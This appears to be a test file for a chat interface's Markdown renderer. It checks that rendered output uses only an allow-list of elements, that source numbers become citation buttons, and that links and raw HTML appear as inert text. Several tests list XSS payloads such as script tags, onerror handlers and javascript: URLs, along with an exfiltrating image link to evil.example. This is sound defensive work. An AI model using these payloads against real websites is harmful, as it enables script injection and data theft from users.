import assert from "node:assert/strict";
import { test } from "node:test";
import { type ComponentChildren, h, isValidElement, type VNode } from "preact";
import { render, spoken } from "../src/pages/chat/markdown.js";
import { parse } from "../src/pages/chat/parse.js";

/** A citation of one of two sources. */
const cite = (n: number) => (n === 1 || n === 2 ? h("button", { type: "button" }, String(n)) : null);

const draw = (text: string): ComponentChildren => render(parse(text), text, cite);

const textOf = ({ props }: VNode): string | null =>
    typeof props === "object" && "text" in props && typeof props.text === "string" ? props.text : null;

const nameOf = ({ type }: VNode): string => (typeof type === "string" ? type : type.name);

/** Returns elements as `p(a strong(b))`. A component that gets a text has its name. */
const outline = (node: ComponentChildren): string => {
    if (Array.isArray(node)) return node.map(outline).join("");
    if (typeof node === "string" || typeof node === "number") return String(node);
    if (!isValidElement(node)) return "";
    const text = textOf(node);
    if (text !== null) return `${nameOf(node)}(${text})`;
    const inside = outline(node.props.children);
    return typeof node.type === "string" ? `${nameOf(node)}(${inside})` : inside;
};

const shown = (text: string): string => outline(draw(text));

/** Returns all elements. */
const elements = (node: ComponentChildren): VNode[] => {
    if (Array.isArray(node)) return node.flatMap(elements);
    return isValidElement(node) ? [node, ...elements(node.props.children)] : [];
};

/** Returns what a person reads. */
const read = (node: ComponentChildren): string => {
    if (Array.isArray(node)) return node.map(read).join("");
    if (typeof node === "string") return node;
    return isValidElement(node) ? (textOf(node) ?? read(node.props.children)) : "";
};

const ELEMENTS = new Set(
    "blockquote br button code del div em h3 hr li ol p span strong table tbody td th thead tr ul".split(" "),
);
const PROPERTIES = new Set([
    "aria-label",
    "children",
    "class",
    "language",
    "role",
    "scope",
    "start",
    "tabIndex",
    "text",
    "type",
]);

/** Checks that nothing in a text can load or run anything. */
const isHarmless = (text: string) => {
    for (const element of elements(draw(text))) {
        const name = typeof element.type === "string" ? element.type : null;
        assert.ok(name === null || ELEMENTS.has(name), `${name} in ${text.slice(0, 80)}`);
        for (const property of Object.keys(element.props)) assert.ok(PROPERTIES.has(property), property);
    }
};

test("Markdown becomes elements", () => {
    assert.equal(shown("a *b* **c** ~~d~~ `e`"), "p(a em(b) strong(c) del(d) code(e))");
    assert.equal(shown("# A\n\n#### B"), "h3(A)h3(B)");
    assert.equal(shown("- a\n- b\n  1. c"), "ul(li(a)li(bol(li(c))))");
    assert.equal(shown("- a\n\n- b"), "ul(li(p(a))li(p(b)))");
    assert.equal(shown("- [x] a\n- [ ] b"), "ul(li(☑ a)li(☐ b))");
    assert.equal(shown("> a\n> b"), "blockquote(p(a\nb))");
    assert.equal(shown("a  \nb\n\n---"), "p(abr()b)hr()");
    assert.equal(shown("```js\nlet a = '<b>';\n```"), "CodeBlock(let a = '<b>';)");
    assert.equal(shown("```js\nlet a"), "CodeBlock(let a)", "it is still written");
    const table = "div(table(thead(tr(th(a)td()))tbody(tr(td(1)td(br())))))";
    assert.equal(shown("| a | |\n|--:|---|\n| 1 | <br> |"), table);
    assert.equal(shown("1 &lt; 2 &amp;&nbsp;3 \\*"), "p(1 < 2 &\u00a03 *)");
    assert.equal(shown("a\r\nb\r\rc"), "p(a\nb)p(c)");
    assert.match(JSON.stringify(elements(draw("7. a"))[0]?.props), /"start":7/);
});

test("the number of a source is a citation", () => {
    assert.equal(shown("Kept for 35 days [1]."), "p(Kept for 35 days button(1).)");
    assert.equal(shown("a[1][2] 【2】"), "p(abutton(1)button(2) button(2))");
    assert.equal(shown("[1, 2; 1]"), "p(button(1)button(2))");
    assert.equal(shown("**a [1]**\n\n- [2]"), "p(strong(a button(1)))ul(li(button(2)))");
    assert.equal(shown("| a |\n|---|\n| [1] |"), "div(table(thead(tr(th(a)))tbody(tr(td(button(1))))))");
});

test("another number is text", () => {
    for (const text of ["[3]", "[0]", "[99]", "[]", "[ ]", "[1,]", "[1-2]", "[a]", "[1.5]", "[x, 1]"]) {
        assert.equal(shown(text), `p(${text})`);
    }
    assert.equal(shown("[1, 9]"), "p(button(1)[9])");
    assert.equal(shown("\\[1\\]"), "p([1])");
    const links = ["[1](https://a.example)", "![1](https://a.example)", "[1]: https://a.example"];
    for (const text of ["`[1]`", "```\n[1]\n```", ...links, "As in [1].\n\n[1]: https://attacker.example/"]) {
        assert.doesNotMatch(shown(text), /button/, text);
    }
});

test("links and images are text with their full address", () => {
    for (const [text, expected] of [
        ["[x](https://a.example/?q=1)", "x (https://a.example/?q=1)"],
        ["[**x**](https://a.example)", "x (https://a.example)"],
        ["https://a.example/b www.a.example a@b.example", "https://a.example/b www.a.example a@b.example"],
        ["<https://a.example>", "https://a.example"],
        ["[https://good.example](https://evil.example)", "https://good.example (https://evil.example)"],
        ["[x][y]\n\n[y]: https://a.example", "x (https://a.example)"],
        ["![alt](https://evil.example/?q=secret)", "Image: alt (https://evil.example/?q=secret)"],
        ["[![a](https://b.example)](https://c.example)", "Image: a (https://b.example) (https://c.example)"],
    ] as const) {
        assert.equal(read(draw(text)), expected);
        isHarmless(text);
    }
});

test("HTML is text", () => {
    for (const text of [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <img src=x onerror=alert(1)> b",
        "<style>h1 { display: none }</style>",
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<!-- x -->",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input></form>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ]) {
        isHarmless(text);
        assert.equal(read(draw(text)), text.replaceAll("&lt;", "<").replaceAll("&gt;", ">"));
    }
});

test("nothing in a hostile text can load or run", () => {
    for (const text of [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        '![x](https://evil.example "onerror=alert(1)")',
        '[x](https://a.example "x" onmouseover=alert(1))',
        "[x]: javascript:alert(1)\n\n[x]",
        "# <img src=x onerror=alert(1)>",
        "- <img src=x onerror=alert(1)>",
        "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
        "> <script>alert(1)</script>",
        "**<script>alert(1)</script>**",
        "`<script>alert(1)</script>`",
        '```"><script>alert(1)</script>\nx\n```',
        "\u0000<script>\u0000",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "\u202e[x](https://evil.example)",
        "__proto__ [__proto__](constructor) ![constructor](__proto__)\n\n[constructor]: x\n\n[toString] &constructor;",
    ]) {
        isHarmless(text);
        assert.notEqual(read(draw(text)), "", text);
    }
});

test("no text takes long", () => {
    const inline = [
        "[",
        "]",
        "(",
        "![",
        "[a](",
        "[a][",
        "*",
        "_",
        "`",
        "~",
        "<",
        "!",
        "\\",
        "*a_",
        "a_",
        "**a",
        "~a~~",
    ];
    const blocks = ["> ", ">", "- ", "1. ", "> - ", "  - a\n", "> a\n", "a\n\n", "- \n", "|a|b|\n|-|-|\n", "|", "#"];
    const others = ["<a ", "<!--", "```\n", "[x]: y\n", "http://", "a@", "&", "\t", "\n", " ", "a\n=\n", "😀"];
    for (const part of [...inline, ...blocks, ...others]) {
        // The longest text that is read as Markdown, the longest answer, and more than there can be.
        for (const length of [100_000, 262_144, 1_000_000]) {
            const text = part.repeat(Math.ceil(length / part.length)).slice(0, length);
            const begin = performance.now();
            isHarmless(text);
            const took = performance.now() - begin;
            assert.ok(took < 10_000, `${JSON.stringify(part)} to ${length} characters: ${took} ms`);
        }
    }
});

test("a text that is nested too deep stays as it is", () => {
    for (const text of [">".repeat(500), "- ".repeat(500), `${"1. ".repeat(300)}a`])
        assert.equal(shown(text), `p(${text})`);
    let list = "";
    for (let depth = 0; depth < 100; depth++) list += `${"  ".repeat(depth)}- ${depth}\n`;
    assert.match(read(draw(list)), /99/);
    assert.equal(shown("> > > a"), "blockquote(blockquote(blockquote(p(a))))");
});

test("a paragraph with too many marks does not change the others", () => {
    assert.ok(shown(`${"*a_".repeat(1_000)}\n\n**b**`).endsWith("p(strong(b))"));
});

test("an answer is read aloud without its marks", async () => {
    const text = "# Backups\n\nKept for **35 days** [1].\n\n- a\n- b\n\n```\nx\n```";
    assert.equal(await spoken(text), "Backups Kept for 35 days. a. b Code");
    assert.equal(await spoken("| a | b |\n|---|---|\n| 1 | 2 |"), "a, b. 1, 2");
});
